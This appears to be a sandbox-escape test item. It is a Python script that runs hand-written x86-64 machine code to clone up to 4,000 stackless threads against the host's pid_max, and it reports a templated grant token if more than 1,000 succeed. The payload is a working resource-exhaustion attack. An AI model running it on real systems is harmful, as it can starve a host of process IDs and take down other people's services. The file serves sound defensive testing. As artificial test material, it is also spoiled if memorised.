# about: task exhaustion: raw clone() from machine code makes thread-like tasks with no stack or heap of their own
#   (neither the interpreter nor RLIMIT_AS bounds them), 4 000 of them against the host's pid_max
# expect: success|exception
# must-not: kernel-granted
# requires: x86-64
import ctypes, signal
GRANT = '{{TOKEN}}'.upper()
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
# loop: clone(CLONE_VM|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD, sp=0) until the count or an error; each task: pause() forever
code = bytes.fromhex('4989f9b838000000bf000d010031f631d24531d20f054885c074087805' '49ffc975e1c3b8220000000f05ebf7')
page = libc.mmap(None, 4096, 7, 0x22, -1, 0)
ctypes.memmove(page, code, len(code))
make = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long)(page)
# the tasks share one stack: with every signal blocked they inherit a full mask and never get a signal frame
mask = signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
last = make(4000)
signal.pthread_sigmask(signal.SIG_SETMASK, mask)
tasks = int(open('/proc/self/status').read().split('Threads:')[1].split()[0])
return f'{tasks} tasks, last clone {last}' + (f', {GRANT}' if tasks > 1000 else '')
